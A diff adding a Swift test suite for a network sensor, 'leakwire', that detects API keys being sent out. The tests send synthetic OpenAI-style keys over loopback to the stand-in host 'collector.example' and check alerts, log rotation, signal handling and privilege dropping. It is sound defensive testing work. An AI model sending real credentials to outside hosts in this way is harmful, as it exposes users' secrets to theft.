@@ -1,0 +1,84 @@
+import Capture
+import Foundation
+import TestSupport
+import Testing
+
+/// Whether this process is root and may capture: in some containers root may not.
+private let mayCapture: Bool = {
+  do throws(CaptureError) {
+    _ = try LiveCapture(interface: RunningSensor.loopback).linkType
+    return geteuid() == 0
+  } catch {
+    return false
+  }
+}()
+
+/// What a user sees of `leakwire sensor`, with real packets on the loopback interface.
+@Suite("The sensor, live", .enabled(if: mayCapture, "live capture needs root"), .serialized)
+struct LiveCaptureTests {
+  /// How long an alert may take to come, in seconds.
+  private static let patience = 10
+
+  private func freshKey() -> String {
+    var generator = SeededGenerator(seed: .random(in: .min ... .max))
+    return SyntheticKey.openAIProject(&generator)
+  }
+
+  @Test("tells of a key sent to a stranger, survives rotation, reports when asked, and ends when told")
+  func watches() throws {
+    let server = try WebServer()
+    defer { server.stop() }
+    let sensor = try RunningSensor(port: server.port)
+    let keys = [freshKey(), freshKey()]
+    try server.request(host: "collector.example", key: keys[0])
+    #expect(sensor.waits(seconds: Self.patience) { !sensor.alerts().isEmpty }, "\(sensor.messages)")
+    let alert = try #require(sensor.alerts().first)
+    #expect(alert["detector"] as? String == "key-exfiltration")
+    #expect((alert["destination"] as? [String: Any])?["host"] as? String == "collector.example")
+    #expect(sensor.waits(seconds: Self.patience) { sensor.events().contains { $0["event_type"] as? String == "http" } })
+
+    // SIGHUP: the log that was moved away is left, a new one begun.
+    let rotated = sensor.scratch.file("eve.json.1")
+    try FileManager.default.moveItem(at: sensor.eve, to: rotated)
+    sensor.signal(SIGHUP)
+    #expect(sensor.waits(seconds: Self.patience) { sensor.messages.contains("logs reopened; configuration") })
+    #expect(FileManager.default.fileExists(atPath: sensor.eve.path))
+    try server.request(host: "collector.example", key: keys[1])
+    #expect(sensor.waits(seconds: Self.patience) { !sensor.alerts().isEmpty }, "\(sensor.messages)")
+    #expect(sensor.alerts(in: rotated).count == 1)
+
+    // SIGUSR1: a line of counters.
+    #expect(!sensor.messages.contains(" packets, "))
+    sensor.signal(SIGUSR1)
+    #expect(sensor.waits(seconds: Self.patience) { sensor.messages.contains(" packets, ") })
+    #expect(sensor.messages.contains("2 alerts"))
+
+    sensor.signal(SIGTERM)
+    #expect(sensor.exitCode(within: 5) == 128 + SIGTERM)
+    for text in [sensor.messages, "\(sensor.events())", "\(sensor.events(in: rotated))"] {
+      // A failed expectation would print what must not be printed.
+      let leaks = keys.contains { text.contains($0.dropFirst(8).prefix(20)) }
+      #expect(!leaks)
+    }
+  }
+
+  @Test("becomes another user once capture is open", arguments: ["nobody"])
+  func becomes(user: String) throws {
+    let server = try WebServer()
+    defer { server.stop() }
+    let sensor = try RunningSensor(port: server.port, ["--user", user])
+    let owner = try FileManager.default.attributesOfItem(atPath: sensor.eve.path)[.ownerAccountName] as? String
+    #expect(owner == user)
+    try server.request(host: "collector.example", key: freshKey())
+    #expect(sensor.waits(seconds: Self.patience) { !sensor.alerts().isEmpty }, "\(sensor.messages)")
+    sensor.signal(SIGINT)
+    #expect(sensor.exitCode(within: 5) == 128 + SIGINT)
+  }
+
+  @Test("refuses a user that does not exist")
+  func refusesUnknownUser() throws {
+    let result = try Program.run(["sensor", "-i", RunningSensor.loopback, "--user", "no-such-user"])
+    #expect(result.code == 2)
+    #expect(result.errors.contains("no-such-user"))
+  }
+}
